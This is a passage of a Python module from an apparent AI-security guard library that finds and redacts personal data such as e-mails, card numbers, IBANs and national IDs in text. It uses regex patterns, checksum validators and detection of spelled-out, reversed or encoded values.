"""PII detection and redaction: e-mail, phone, card, IBAN, US SSN, IP, MAC, UK NINO.

Each type is a compiled candidate pattern plus a validator (Luhn, mod-97, SSA area rules,
``ipaddress``, ``phonenumbers``), so a pattern match alone is rarely a finding. Redaction
puts typed placeholders (``<EMAIL_1>``) in place of values, numbered consistently within
one request; with ``reversible`` the originals are kept in the request's ``ScanContext``
(never logged, never persisted) so :func:`restore` can put them back into the output of
that same request.
"""

from __future__ import annotations

import bisect
import hashlib
import ipaddress
import re
import secrets
import unicodedata
from collections.abc import Callable, Iterable, Iterator
from dataclasses import dataclass
from functools import lru_cache
from typing import Any, ClassVar

from aisec.core.errors import PolicyError
from aisec.core.findings import Finding, FrameworkRef, Location, Severity
from aisec.guard._options import strings_option
from aisec.guard._scanner import Direction, ScanContext, Scanner, ScanResult
from aisec.guard._spans import non_overlapping

__all__ = [
    "PII_KINDS",
    "PiiMatch",
    "PiiScanner",
    "dni_valid",
    "find_pii",
    "iban_valid",
    "luhn_valid",
    "redact_pii",
    "restore",
    "restore_stream",
    "ssn_valid",
    "verhoeff_valid",
]

PII_KINDS = (
    "EMAIL",
    "PHONE",
    "CREDIT_CARD",
    "IBAN",
    "US_SSN",
    "IP_ADDRESS",
    "MAC_ADDRESS",
    "UK_NINO",
    "ES_DNI",
    "IN_AADHAAR",
)

FRAMEWORKS = (FrameworkRef("OWASP-LLM", "LLM02:2025"), FrameworkRef("ATLAS", "AML.T0057"))

# Overlaps are settled by this order: a card number is not also a phone number.
_PRIORITY = {kind: i for i, kind in enumerate(PII_KINDS)}
_PRIORITY["PHONE"] = len(PII_KINDS)  # the loosest pattern yields to every other

_SEVERITY = {
    "EMAIL": Severity.MEDIUM,
    "PHONE": Severity.MEDIUM,
    "CREDIT_CARD": Severity.HIGH,
    "IBAN": Severity.HIGH,
    "US_SSN": Severity.HIGH,
    "IP_ADDRESS": Severity.LOW,
    "MAC_ADDRESS": Severity.LOW,
    "UK_NINO": Severity.HIGH,
    "ES_DNI": Severity.HIGH,
    "IN_AADHAAR": Severity.HIGH,
}


@dataclass(frozen=True, slots=True)
class PiiMatch:
    """One PII value found in a text: its type, span and confidence in [0, 1]."""

    kind: str
    start: int
    end: int
    score: float


# --- validators --------------------------------------------------------------------------


def luhn_valid(digits: str) -> bool:
    """True when ``digits`` (only 0-9) passes the Luhn checksum."""
    if not digits.isdigit() or not digits.isascii():
        return False
    total = 0
    for i, ch in enumerate(reversed(digits)):
        d = ord(ch) - 48
        if i % 2:
            d *= 2
            if d > 9:
                d -= 9
        total += d
    return total % 10 == 0


# ISO 13616 lengths by country (SWIFT IBAN registry).
_IBAN_LENGTHS = {
    "AD": 24, "AE": 23, "AL": 28, "AT": 20, "AZ": 28, "BA": 20, "BE": 16, "BG": 22, "BH": 22,
    "BI": 27, "BR": 29, "BY": 28, "CH": 21, "CR": 22, "CY": 28, "CZ": 24, "DE": 22, "DJ": 27,
    "DK": 18, "DO": 28, "EE": 20, "EG": 29, "ES": 24, "FI": 18, "FK": 18, "FO": 18, "FR": 27,
    "GB": 22, "GE": 22, "GI": 23, "GL": 18, "GR": 27, "GT": 28, "HR": 21, "HU": 28, "IE": 22,
    "IL": 23, "IQ": 23, "IS": 26, "IT": 27, "JO": 30, "KW": 30, "KZ": 20, "LB": 28, "LC": 32,
    "LI": 21, "LT": 20, "LU": 20, "LV": 21, "LY": 25, "MC": 27, "MD": 24, "ME": 22, "MK": 19,
    "MN": 20, "MR": 27, "MT": 31, "MU": 30, "NI": 28, "NL": 18, "NO": 15, "OM": 23, "PK": 24,
    "PL": 28, "PS": 29, "PT": 25, "QA": 29, "RO": 24, "RS": 22, "RU": 33, "SA": 24, "SC": 31,
    "SD": 18, "SE": 24, "SI": 19, "SK": 24, "SM": 27, "SO": 23, "ST": 25, "SV": 28, "TL": 23,
    "TN": 24, "TR": 26, "UA": 29, "VA": 22, "VG": 24, "XK": 20, "YE": 30,
}  # fmt: skip


def iban_valid(iban: str) -> bool:
    """True when ``iban`` (spaces allowed, any case) has its country's length and mod-97 == 1."""
    compact = iban.replace(" ", "").upper()
    if not compact.isascii() or not compact.isalnum():
        return False
    if _IBAN_LENGTHS.get(compact[:2]) != len(compact) or not compact[2:4].isdigit():
        return False
    rearranged = compact[4:] + compact[:4]
    number = "".join(str(int(ch, 36)) for ch in rearranged)
    return int(number) % 97 == 1


_DNI_LETTERS = "TRWAGMYFPDXBNJZSQVHLCKE"


def dni_valid(value: str) -> bool:
    """Spanish DNI (8 digits + letter) or NIE (X/Y/Z + 7 digits + letter): mod-23 letter."""
    v = value.replace("-", "").replace(" ", "").upper()
    if len(v) != 9 or not v[-1].isalpha():
        return False
    body = v[:-1]
    if body[0] in "XYZ":
        body = str("XYZ".index(body[0])) + body[1:]
    return body.isdigit() and _DNI_LETTERS[int(body) % 23] == v[-1]


# Verhoeff tables (dihedral group D5): the checksum Aadhaar numbers carry.
_VERHOEFF_D = (
    (0, 1, 2, 3, 4, 5, 6, 7, 8, 9), (1, 2, 3, 4, 0, 6, 7, 8, 9, 5),
    (2, 3, 4, 0, 1, 7, 8, 9, 5, 6), (3, 4, 0, 1, 2, 8, 9, 5, 6, 7),
    (4, 0, 1, 2, 3, 9, 5, 6, 7, 8), (5, 9, 8, 7, 6, 0, 4, 3, 2, 1),
    (6, 5, 9, 8, 7, 1, 0, 4, 3, 2), (7, 6, 5, 9, 8, 2, 1, 0, 4, 3),
    (8, 7, 6, 5, 9, 3, 2, 1, 0, 4), (9, 8, 7, 6, 5, 4, 3, 2, 1, 0),
)  # fmt: skip
_VERHOEFF_P = (
    (0, 1, 2, 3, 4, 5, 6, 7, 8, 9), (1, 5, 7, 6, 2, 8, 3, 0, 9, 4),
    (5, 8, 0, 3, 7, 9, 6, 1, 4, 2), (8, 9, 1, 6, 0, 4, 3, 5, 2, 7),
    (9, 4, 5, 3, 1, 2, 6, 8, 7, 0), (4, 2, 8, 6, 5, 7, 3, 9, 0, 1),
    (2, 7, 9, 3, 8, 0, 6, 4, 1, 5), (7, 0, 4, 6, 9, 1, 3, 2, 5, 8),
)  # fmt: skip


def verhoeff_valid(digits: str) -> bool:
    """True when ``digits`` passes the Verhoeff checksum."""
    if not digits.isascii() or not digits.isdigit():
        return False
    check = 0
    for i, ch in enumerate(reversed(digits)):
        check = _VERHOEFF_D[check][_VERHOEFF_P[i % 8][int(ch)]]
    return check == 0


def ssn_valid(area: str, group: str, serial: str) -> bool:
    """SSA rules: no area 000, 666 or 9xx; no group 00; no serial 0000; no famous samples."""
    if area in ("000", "666") or area[0] == "9" or group == "00" or serial == "0000":
        return False
    return f"{area}{group}{serial}" not in ("078051120", "219099999", "123456789")


# --- candidate patterns -----------------------------------------------------------------

_LOCAL = re.compile(r"[\w.%+-]{1,64}\Z")
# letters of any script: an address with one non-ASCII letter is still an address
# matched right after the '@' (or the spaces after it): the look-behind keeps a search from
# restarting at every label of a long dotted run
_DOMAIN = re.compile(r"(?<=[@ \t])(?:[^\W_](?:[\w-]{0,61}[^\W_])?\.)+[^\W\d_]{2,24}(?![\w-])")
_SPELLED_AT = re.compile(r"[\[(\{]\s?(?:at|AT|At)\s?[\])\}]")
_EMAIL_SPELLED = re.compile(
    r"(?i)(?<![\w.+-])[a-z0-9][a-z0-9._%+-]{0,63}\s?[\[(\{]\s?at\s?[\])\}]\s?"
    r"(?:[a-z0-9-]{1,63}\s?(?:[\[(\{]\s?dot\s?[\])\}]|\.)\s?)+"
    r"(?:com|org|net|edu|gov|mil|int|io|ai|dev|app|info|biz|name|mail|[a-z]{2})(?![\w-])"
)
_CARD = re.compile(r"(?<![\w.-])\d(?:[ .-]?\d){12,18}(?![\w-]|\.\d)")
_IBAN = re.compile(
    r"(?<![A-Za-z0-9])[A-Za-z]{2}\d{2}(?: ?[A-Za-z0-9]{4}){2,7}(?: ?[A-Za-z0-9]{1,3})?"
    r"(?![A-Za-z0-9])"
)
_SSN = re.compile(r"(?<![\w.-])(\d{3})([- .])(\d{2})\2(\d{4})(?![\w-]|\.\d)")
_SSN_BARE = re.compile(r"(?<![\w.-])(\d{3})(\d{2})(\d{4})(?![\w-]|\.\d)")
_SSN_CONTEXT = re.compile(r"\b(?:ssn|social\s+security|soc\.?\s*sec|taxpayer|tin)\b")
_SSN_HINTS = ("ssn", "social", "soc", "taxpayer", "tin")
_IPV4 = re.compile(
    r"(?<![\w.])(?:25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)(?:\.(?:25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)){3}"
    r"(?![\w]|\.\d|/\d)"
)
_IPV6 = re.compile(r"(?<![\w:.])(?:[0-9A-Fa-f]{0,4}:){2,7}(?:[0-9A-Fa-f]{1,4}|:|\d+(?:\.\d+){3})")
_MAC = re.compile(
    r"(?<![\w:.-])[0-9A-Fa-f]{2}([:-])(?:[0-9A-Fa-f]{2}\1){4}[0-9A-Fa-f]{2}(?![\w:.-])"
)
# starts at the dot, a literal sre jumps to quickly; the 4 hex digits before are a lookbehind
_MAC_DOTTED = re.compile(r"\.(?<=[0-9A-Fa-f]{4}\.)[0-9A-Fa-f]{4}\.[0-9A-Fa-f]{4}(?![\w:.-])")
_NINO = re.compile(
    r"(?<![A-Za-z0-9])(?!BG|GB|NK|KN|TN|NT|ZZ)[A-CEGHJ-PR-TW-Z][A-CEGHJ-NPR-TW-Z]"
    r" ?\d{2} ?\d{2} ?\d{2} ?[A-D](?![A-Za-z0-9])"
)
_DNI = re.compile(r"(?<![\w-])(?:\d{8}|[XYZxyz]-?\d{7})-?[A-Za-z](?![\w-])")
_DNI_CONTEXT = re.compile(r"\b(?:dni|nie|nif|documento|identidad)\b")
_DNI_HINTS = ("dni", "nie", "nif", "documento", "identidad")
_AADHAAR = re.compile(r"(?<![\w-])[2-9]\d{3}([ -]?)\d{4}\1\d{4}(?![\w-])")
_AADHAAR_CONTEXT = re.compile(r"\b(?:aadhaa?r|uidai|uid)\b")
_AADHAAR_HINTS = ("aadha", "uid")
_NINO_CONTEXT = re.compile(r"national\s+insurance|\bnino\b|\bni\s+(?:number|no)\b")
_NINO_HINTS = ("national", "nino", "ni ")
# A phone number: optional +CC, optional (area), then digit groups joined by one separator,
# optional extension. Digit counts are checked after the match.
_PHONE = re.compile(
    r"(?<![\w+.-])(?:\+\d{1,3}[ .-]?)?(?:\(\d{1,5}\)[ .-]?)?\d{1,12}(?:[ .-]\d{1,10}){0,5}"
    r"(?:[ ]?(?:x|ext\.?|extension)[ ]?\d{1,6})?(?![\w]|[.-]\d)"
)
_EXTENSION = re.compile(r"[ ]?(?:x|ext\.?|extension)[ ]?\d{1,6}$")
_PHONE_CONTEXT = re.compile(
    r"\b(?:phone|tel|telephone|mobile|cell|cellphone|fax|call|calling|reach|contact|"
    r"dial|ring|whatsapp|sms|text|number|office|landline|hotline|answering)\b"
)
_NOT_PHONE_CONTEXT = re.compile(
    r"(?:\b(?:order|invoice|ref|reference|tracking|account|acct|id|serial|version|isbn|"
    r"sku|po|ticket|case|build|zip|postcode|postal|apt|apartment|suite|unit|room|no)\b"
    # a '#' is tried once per run of [\s:#.] (from the run's start, up to its first '#'):
    # the same texts match as with a bare '#', without rescanning the run from every '#'
    r"|(?<![\s:#.])[\s:.]*+#)[\s:#.]*+$"
)
_ID_CONTEXT = re.compile(
    r"\b(?:licen[cs]e|passport|permit|ssn|social\s+security|account|tax|vat|routing|"
    r"iban|card|policy|member|employee|student|patient|customer)\b"
)
_STRONG_PHONE = re.compile(r"\b(?:phone|tel|telephone|mobile|cell|fax|call|whatsapp|sms)\b")
_GROUPS = re.compile(r"\d+")
_NON_DIGITS = re.compile(r"\D+")
_THOUSANDS = re.compile(r"\d{1,3}(?:[ ,.\u202f]\d{3})+")
_RANGE = re.compile(r"\d{1,5}\s?[-\u2013]\s?\d{1,5}")
_MONEY = frozenset("$\u20ac\u00a3\u00a5")
_SSN_SHAPE = re.compile(r"\d{3}-\d{2}-\d{4}")
_DATE = re.compile(r"\d{4}[-./]\d{1,2}[-./]\d{1,2}|\d{1,2}[-./]\d{1,2}[-./]\d{4}")
# One pass finds every run of digits and separators long enough to hold a phone, card,
# SSN or IPv4 address; the specific patterns then run only in windows around those runs.
_SCOUT = re.compile(r"\d[\d ().+/x-]{4,}\d")

_CARD_PREFIXES = re.compile(
    r"4|5[1-5]|2(?:2[2-9]|[3-6]\d|7[01]|720)|3[47]|3(?:0[0-5]|[68])|6(?:011|4[4-9]|5)|35(?:2[89]|[3-8])|62"
)
_PHONE_REGIONS = ("US", "GB", "DE", "FR", "NL", "IN", "AU", "CA", "BR", "IL")


def _card_ok(raw: str) -> bool:
    seps = {ch for ch in raw if not ch.isdigit()}
    if len(seps) > 1:
        return False
    digits = raw.replace(" ", "").replace("-", "").replace(".", "")
    if not 13 <= len(digits) <= 19 or len(set(digits)) < 2:
        return False
    return _CARD_PREFIXES.match(digits) is not None and luhn_valid(digits)


@lru_cache(maxsize=4096)
def _phone_score(raw: str) -> tuple[bool, bool]:
    """(valid somewhere, possible somewhere) per ``phonenumbers``; cached for repeats."""
    import phonenumbers  # ~50 ms to import: only texts with a phone-like run pay it

    number = _EXTENSION.sub("", raw)
    regions: Iterable[str | None] = (None,) if number.startswith("+") else _PHONE_REGIONS
    possible = False
    for region in regions:
        try:
            parsed = phonenumbers.parse(number, region)
        except phonenumbers.NumberParseException:
            continue
        if phonenumbers.is_valid_number(parsed):
            return True, True
        possible = possible or phonenumbers.is_possible_number(parsed)
    return False, possible


def _phone_matches(text: str, pos: int, endpos: int) -> Iterable[PiiMatch]:
    for m in _PHONE.finditer(text, pos, endpos):
        raw = m.group()
        core = _EXTENSION.sub("", raw) if "x" in raw else raw
        ndigits = sum(ch.isdigit() for ch in core)
        start, end = m.span()
        # cheap shape checks first: most digit runs in prompts are not phone numbers
        if not 7 <= ndigits <= 15 or _DATE.match(core) or text[end : end + 1] == ":":
            continue  # dates and times are digit groups too
        if _SSN_SHAPE.fullmatch(core):
            continue  # 3-2-4 is how SSNs are written, valid or not
        if sum(len(g) == 1 for g in _GROUPS.findall(core)) >= 2:
            continue  # "3 9 5 2 11 1" is a list of numbers
        if text[start - 1 : start] in _MONEY or text[end : end + 1] == "%":
            continue  # an amount or a percentage
        before = text[max(0, start - 40) : start].lower()
        if _NOT_PHONE_CONTEXT.search(before) or (
            _ID_CONTEXT.search(before) and not _STRONG_PHONE.search(before)
        ):
            continue  # an order, account or document number, not a phone
        context = _PHONE_CONTEXT.search(before) or _PHONE_CONTEXT.search(
            text[end : end + 20].lower()
        )
        has_seps = ndigits != len(core) or core.startswith("+")
        if not has_seps and not context:
            continue  # a bare digit run is an ID or a timestamp more often than a phone
        if _RANGE.fullmatch(core) and not _STRONG_PHONE.search(before):
            continue  # "2000-3000", "2024-2026": a range of numbers
        if _THOUSANDS.fullmatch(core) and not context:
            continue  # "5 650 000": a number with thousands separators
        valid, possible = _phone_score(raw)
        if valid:
            score = 0.9 if context or has_seps else 0.6
        elif possible and context:
            score = 0.7
        elif context and has_seps:
            score = 0.55
        else:
            continue
        yield PiiMatch("PHONE", start, end, score)


def _iban_matches(text: str, pos: int, endpos: int) -> Iterable[PiiMatch]:
    for m in _IBAN.finditer(text, pos, endpos):
        raw = m.group()
        # the pattern may have swallowed a following short word; drop trailing groups
        while raw:
            if iban_valid(raw):
                yield PiiMatch("IBAN", m.start(), m.start() + len(raw), 0.95)
                break
            cut = raw.rfind(" ")
            if cut <= 4:
                break
            raw = raw[:cut]


def _ipv6_matches(text: str) -> Iterable[PiiMatch]:
    for m in _IPV6.finditer(text):
        raw = m.group()
        if raw.count(":") < 3 and raw != "::1":
            continue
        try:
            ipaddress.IPv6Address(raw)
        except ValueError:
            continue
        yield PiiMatch("IP_ADDRESS", m.start(), m.end(), 0.85)


def _ssn_matches(text: str, pos: int, endpos: int, context: bool) -> Iterable[PiiMatch]:
    for m in _SSN.finditer(text, pos, endpos):
        # dashes are how SSNs are written; "680 36 4022" is as likely a house number
        if (m.group(2) == "-" or context) and ssn_valid(m.group(1), m.group(3), m.group(4)):
            yield PiiMatch("US_SSN", m.start(), m.end(), 0.85)
    if context:
        for m in _SSN_BARE.finditer(text, pos, endpos):
            if ssn_valid(m.group(1), m.group(2), m.group(3)):
                yield PiiMatch("US_SSN", m.start(), m.end(), 0.7)


def _windows(runs: list[tuple[int, int]], n: int, left: int, right: int) -> list[tuple[int, int]]:
    """Merged windows reaching ``left``/``right`` characters around each digit run."""
    out: list[tuple[int, int]] = []
    for start, end in runs:
        s, e = max(0, start - left), min(n, end + right)
        if out and s <= out[-1][1]:
            out[-1] = (out[-1][0], e)
        else:
            out.append((s, e))
    return out


def _emails(text: str) -> Iterable[PiiMatch]:
    """E-mail addresses, grown outwards from each '@': the local part backwards, the
    domain forwards (a whole-text pattern would try every position)."""
    at = text.find("@")
    while at != -1:
        nxt = at + 1
        left = at
        while left > 0 and at - left < 2 and text[left - 1] in " \t":
            left -= 1  # "jane @ corp.com"
        right = at + 1
        while right < len(text) and right - at <= 2 and text[right] in " \t":
            right += 1
        local = _LOCAL.search(text, max(0, left - 64), left)
        domain = _DOMAIN.match(text, right) if local else None
        if local and domain:
            start = local.start()
            while start < at and not text[start].isalnum():
                start += 1  # the first character must be a letter or digit
            glued = start > 0 and (text[start - 1].isalnum() or text[start - 1] in "_.%+-")
            if start < left and not glued:
                yield PiiMatch("EMAIL", start, domain.end(), 0.95)
                nxt = domain.end()
        at = text.find("@", nxt)


def _spelled_emails(text: str) -> Iterable[PiiMatch]:
    """Spelled-out addresses (``jane [at] corp [dot] com``), the form used to slip them past
    filters; searched only around each bracketed "at"."""
    n = len(text)
    last = 0
    for at in _SPELLED_AT.finditer(text):
        if at.start() < last:
            continue
        for m in _EMAIL_SPELLED.finditer(text, max(last, at.start() - 70), min(n, at.end() + 200)):
            if m.start() <= at.start() < m.end():
                yield PiiMatch("EMAIL", m.start(), m.end(), 0.8)
                last = m.end()


def _hint(low: str, hints: tuple[str, ...]) -> bool:
    return any(h in low for h in hints)


def _raw_matches(text: str, kinds: frozenset[str]) -> Iterable[PiiMatch]:
    if "EMAIL" in kinds and "@" in text:
        yield from _emails(text)
    if "EMAIL" in kinds and ("at]" in text or "at)" in text or "AT]" in text or "AT)" in text):
        yield from _spelled_emails(text)
    runs = [m.span() for m in _SCOUT.finditer(text)] if kinds & _DIGIT_KINDS else []
    windows = _windows(runs, len(text), 3, 16)
    low = text.lower() if windows or "UK_NINO" in kinds else ""
    # national IDs with a checksum, and only where a context word names them
    dni = (
        bool(windows)
        and "ES_DNI" in kinds
        and _hint(low, _DNI_HINTS)
        and _DNI_CONTEXT.search(low) is not None
    )
    aadhaar = (
        bool(windows)
        and "IN_AADHAAR" in kinds
        and _hint(low, _AADHAAR_HINTS)
        and _AADHAAR_CONTEXT.search(low) is not None
    )
    ssn_context = bool(windows) and _hint(low, _SSN_HINTS) and _SSN_CONTEXT.search(low) is not None
    for pos, endpos in windows:
        if "CREDIT_CARD" in kinds:
            for m in _CARD.finditer(text, pos, endpos):
                if _card_ok(m.group()):
                    yield PiiMatch("CREDIT_CARD", m.start(), m.end(), 0.9)
        if "US_SSN" in kinds:
            yield from _ssn_matches(text, pos, endpos, ssn_context)
        if "PHONE" in kinds:
            yield from _phone_matches(text, pos, endpos)
        if dni:
            for m in _DNI.finditer(text, pos, endpos):
                if dni_valid(m.group()):
                    yield PiiMatch("ES_DNI", m.start(), m.end(), 0.9)
        if aadhaar:
            for m in _AADHAAR.finditer(text, pos, endpos):
                if verhoeff_valid(m.group().replace(" ", "").replace("-", "")):
                    yield PiiMatch("IN_AADHAAR", m.start(), m.end(), 0.9)
        if "IP_ADDRESS" in kinds:
            for m in _IPV4.finditer(text, pos, endpos):
                if not m.group().startswith(("127.", "0.")):  # loopback, "this network"
                    yield PiiMatch("IP_ADDRESS", m.start(), m.end(), 0.85)
    if "IBAN" in kinds:
        # every IBAN holds a run of digits (its check digits and most of its BBAN)
        for pos, endpos in _windows(runs, len(text), 34, 16):
            yield from _iban_matches(text, pos, endpos)
    if "IP_ADDRESS" in kinds and ("::" in text or text.count(":") >= 5):
        yield from _ipv6_matches(text)
    if "MAC_ADDRESS" in kinds:
        if text.count(":") >= 5 or text.count("-") >= 5:
            for m in _MAC.finditer(text):
                yield PiiMatch("MAC_ADDRESS", m.start(), m.end(), 0.8)
        if text.count(".") >= 2:
            for m in _MAC_DOTTED.finditer(text):
                start = m.start() - 4  # the match begins at the first dot
                if start and (text[start - 1].isalnum() or text[start - 1] in "_:.-"):
                    continue
                yield PiiMatch("MAC_ADDRESS", start, m.end(), 0.8)
    if "UK_NINO" in kinds and _hint(low, _NINO_HINTS) and _NINO_CONTEXT.search(low):
        for m in _NINO.finditer(text):
            yield PiiMatch("UK_NINO", m.start(), m.end(), 0.85)


_DIGIT_KINDS = frozenset(
    {"CREDIT_CARD", "US_SSN", "PHONE", "IP_ADDRESS", "IBAN", "ES_DNI", "IN_AADHAAR"}
)
_ALL = frozenset(PII_KINDS)


class _AsciiDigits(dict[int, int]):
    """``str.translate`` table mapping every decimal digit to its ASCII digit, filled as
    characters are first seen (building it for all of Unicode up front takes ~150 ms)."""

    def __missing__(self, cp: int) -> int:
        value = unicodedata.digit(chr(cp), None)
        if value is not None and unicodedata.category(chr(cp)) == "Nd":
            self[cp] = 48 + value  # at most ~700 of these exist
            return 48 + value
        if len(self) < 8192:  # bounded: a text of all of Unicode must not grow it forever
            self[cp] = cp
        return cp


_ASCII_DIGITS = _AsciiDigits()


def find_pii(
    text: str, kinds: Iterable[str] | None = None, min_score: float = 0.5
) -> list[PiiMatch]:
    """All PII in ``text`` with score >= ``min_score``, sorted by position, not overlapping.

    Non-ASCII decimal digits (fullwidth, Arabic-Indic...) count as their ASCII values; the
    mapping is one character to one, so spans index the original text."""
    wanted = _ALL if kinds is None else frozenset(kinds)
    if not text.isascii():
        text = text.translate(_ASCII_DIGITS)
    found = sorted(
        (m for m in _raw_matches(text, wanted) if m.score >= min_score),
        key=lambda m: (_PRIORITY[m.kind], -(m.end - m.start), m.start),
    )
    return non_overlapping(found)


# --- output: PII disguised by formatting, look-alikes and encodings -------------------------

# kinds whose validators are strong enough to trust inside decoded or run-together text
# "maria dot gonzalez at northwind dash mail dot com": spelled with words, at least the
# last dot spelled out (so "look at example.com" stays prose)
_EMAIL_WORDS = re.compile(
    r"(?<![\w.+-])[a-z0-9][a-z0-9._%+-]{0,63}(?: (?:dot|dash|underscore) [a-z0-9._%+-]{1,63}){0,4}"
    r" at [a-z0-9-]{1,63}+(?:(?: (?:dot|dash) |[.-])[a-z0-9-]{1,63}+){0,4} dot "
    r"(?:com|org|net|edu|gov|mil|io|ai|dev|app|info|biz|co|uk|de|fr|es|it|nl|me|us)(?![\w-])"
)
_ASCII_TEXT = re.compile(rb"[\x20-\x7e\t\r\n]+")
_STRONG = frozenset({"EMAIL", "CREDIT_CARD", "IBAN", "US_SSN"})
_SSN_LOOSE = re.compile(r"(\d(?<![\w.-]\d)\d{2})([-./])(\d{2})\2(\d{4})(?![\w-]|\.\d)")


_IBAN_START = re.compile(r"\d\d(?<=[A-Za-z]{2}\d\d)")  # the check digits after the country
_LONG_DIGITS = re.compile(r"\d(?<![A-Za-z0-9]\d)\d{12,18}(?![A-Za-z0-9])")


_G = r"[^A-Za-z0-9]{1,8}"
_E = r"(?![A-Za-z0-9])"
# card and SSN shapes whose groups are split by anything short; digit by digit for cards
# (each starts with a digit, and looks behind it for the word boundary: ``re`` then skips
# to digits quickly instead of trying every position)
# nine digits spelled one at a time ("4 5 7 5 5 ..."), an SSN where a context word says so
_SPELLED_SSN = re.compile(
    r"\d(?<![A-Za-z0-9]\d)(?:[^A-Za-z0-9\n]{1,3}\d){8}(?![^A-Za-z0-9\n]{1,3}\d)(?![A-Za-z0-9])"
)
_IBAN_BACKWARDS_END = re.compile(r"\d\d[A-Za-z]{2}(?![A-Za-z0-9])")
_SPELLED_NEAR = re.compile(r"(?<![A-Za-z0-9])[A-Za-z][^A-Za-z0-9]{1,3}\d")
_SPELLED_AFTER = re.compile(r"[^A-Za-z0-9]{1,3}[A-Za-z](?![A-Za-z0-9])")
_SPLIT_NUMBER = re.compile(
    rf"\d(?<![A-Za-z0-9]\d)(?:\d{{3}}{_G}\d{{4}}{_G}\d{{4}}{_G}\d{{1,4}}(?:{_G}\d{{3}})?"
    rf"|\d{{3}}{_G}\d{{6}}{_G}\d{{4,5}}|\d{{2}}{_G}\d{{2}}{_G}\d{{4}}|(?:{_G}\d){{12,18}}){_E}"
)


def _joined_pii(view: str, kinds: frozenset[str]) -> Iterable[tuple[str, int, int, float]]:
    """Cards and SSNs whose groups are split by anything short (``·``, ``|``, line breaks,
    JSON quotes) or spelled one digit at a time, and IBANs split the same way."""
    if kinds & {"CREDIT_CARD", "US_SSN"}:
        for m in _SPLIT_NUMBER.finditer(view):
            hit = _split_number(m, kinds)
            if hit is not None:
                yield hit
    if "CREDIT_CARD" in kinds:
        for run in _LONG_DIGITS.finditer(view):
            backwards = run.group()[::-1]
            if backwards[0] != "0" and _card_ok(backwards):
                yield ("CREDIT_CARD", *run.span(), 0.85)
    if "IBAN" in kinds:
        from aisec.guard._shadow import joined

        for m in _IBAN_START.finditer(view):
            start = m.start() - 2
            if view[start : start + 2].upper() not in _IBAN_LENGTHS or (
                start and view[start - 1].isalnum()
            ):
                continue
            j = joined(view, start, start + 320)
            q = j.text.upper()
            length = _IBAN_LENGTHS.get(q[:2])
            if not length or len(q) < length or not iban_valid(q[:length]):
                continue
            cut = j.fragment_at(length - 1)
            ends_clean = length == len(q) or j.starts[cut + 1] == length
            if ends_clean and not any(j.breaks[x] for x in range(1, cut + 1)):
                yield ("IBAN", *j.shadow_span(0, length), 0.95)


def _split_number(m: re.Match[str], kinds: frozenset[str]) -> tuple[str, int, int, float] | None:
    raw = m.group()
    groups = _GROUPS.findall(raw)
    gaps = _NON_DIGITS.findall(raw)
    if any(g.count("\n") > 1 for g in gaps):
        return None  # a paragraph between them: not one number
    digits = "".join(groups)
    shape = tuple(len(g) for g in groups)
    if shape == (3, 2, 4):
        if "US_SSN" in kinds and ssn_valid(digits[:3], digits[3:5], digits[5:]):
            return ("US_SSN", m.start(), m.end(), 0.85)
        return None
    if "CREDIT_CARD" not in kinds:
        return None
    single = len(groups) >= 13 and all(x == 1 for x in shape)
    if single and (len(set(gaps)) != 1 or "," in gaps[0]):
        return None  # "4 1 1 1 ..." is spelling; "5, 3, 8, ..." is a list of scores
    before = m.string[max(0, m.start() - 4) : m.start() + 1]
    inside = _SPELLED_NEAR.search(before) or _SPELLED_AFTER.match(m.string, m.end())
    if single and inside:
        return None  # digits inside a longer spelled-out run (a key): not a card on its own
    if _card_ok(digits):
        return ("CREDIT_CARD", m.start(), m.end(), 0.9)
    # written backwards to slip past the check: the reversed digits are the card
    backwards = shape == (4, 4, 4, 4) or (single and len(digits) == 16)
    if backwards and digits[-1] != "0" and _card_ok(digits[::-1]):
        return ("CREDIT_CARD", m.start(), m.end(), 0.85)
    return None


def find_pii_deep(text: str, kinds: Iterable[str] | None = None) -> list[PiiMatch]:
    """:func:`find_pii` on ``text`` and on its disguised forms: the shadow (look-alikes,
    invisible characters, odd dashes and spaces), the run-together view, the reversed
    shadow and the decodings of encoded runs; spans of ``text``, merged."""
    from aisec.guard._decode import readable_decodings
    from aisec.guard._shadow import shadow

    wanted = _ALL if kinds is None else frozenset(kinds)
    found = list(find_pii(text, wanted))
    sh = shadow(text)
    view = sh.text
    if not sh.identity:
        found += [
            PiiMatch(m.kind, *sh.span(m.start, m.end), m.score) for m in find_pii(view, wanted)
        ]
    if "US_SSN" in wanted and ("." in view or "/" in view):
        for ssn in _SSN_LOOSE.finditer(view):
            if ssn_valid(ssn.group(1), ssn.group(3), ssn.group(4)):
                found.append(PiiMatch("US_SSN", *sh.span(*ssn.span()), 0.8))
    for kind, start, end, score in _joined_pii(view, wanted & _STRONG):
        found.append(PiiMatch(kind, *sh.span(start, end), score))
    low = view.lower()
    if len(low) != len(view):  # a few letters grow when lowered: keep offsets
        low = "".join(c.lower() if len(c.lower()) == 1 else c for c in view)
    if "EMAIL" in wanted and " dot " in low:
        for spelled in _EMAIL_WORDS.finditer(low):
            found.append(PiiMatch("EMAIL", *sh.span(*spelled.span()), 0.8))
    strong = wanted & _STRONG
    if "EMAIL" in strong and "@" in view:  # written backwards
        n = len(view)
        for m in find_pii(view[::-1], {"EMAIL"}):
            found.append(PiiMatch(m.kind, *sh.span(n - m.end, n - m.start), m.score))
    if "IBAN" in strong:  # backwards: the country code and check digits come last
        for tail in _IBAN_BACKWARDS_END.finditer(view):
            lo = max(0, tail.end() - 48)
            window = view[lo : tail.end()][::-1]
            for m in find_pii(window, {"IBAN"}):
                end = tail.end()
                found.append(PiiMatch(m.kind, *sh.span(end - m.end, end - m.start), m.score))
    if "US_SSN" in wanted:
        for ssn in _SPELLED_SSN.finditer(view):
            digits = "".join(c for c in ssn.group() if c.isdigit())
            context = low[max(0, ssn.start() - 40) : ssn.start()]
            if _SSN_CONTEXT.search(context) and ssn_valid(digits[:3], digits[3:5], digits[5:]):
                found.append(PiiMatch("US_SSN", *sh.span(*ssn.span()), 0.8))
    if strong:
        readable: list[tuple[int, int]] = []
        decoded_hits: list[PiiMatch] = []
        for start, end, decoded, data in readable_decodings(view):
            inner = find_pii(decoded, strong)
            span = sh.span(start, end)
            if inner:
                decoded_hits.append(PiiMatch(inner[0].kind, *span, 0.9))
            elif len(data) >= 8 and _ASCII_TEXT.fullmatch(data):
                readable.append(span)
        if readable:
            # digits of hex bytes are not phone or card numbers: leave the encoded run whole
            # for the scanners after this one (the secrets scanner decodes it again)
            found = [
                m
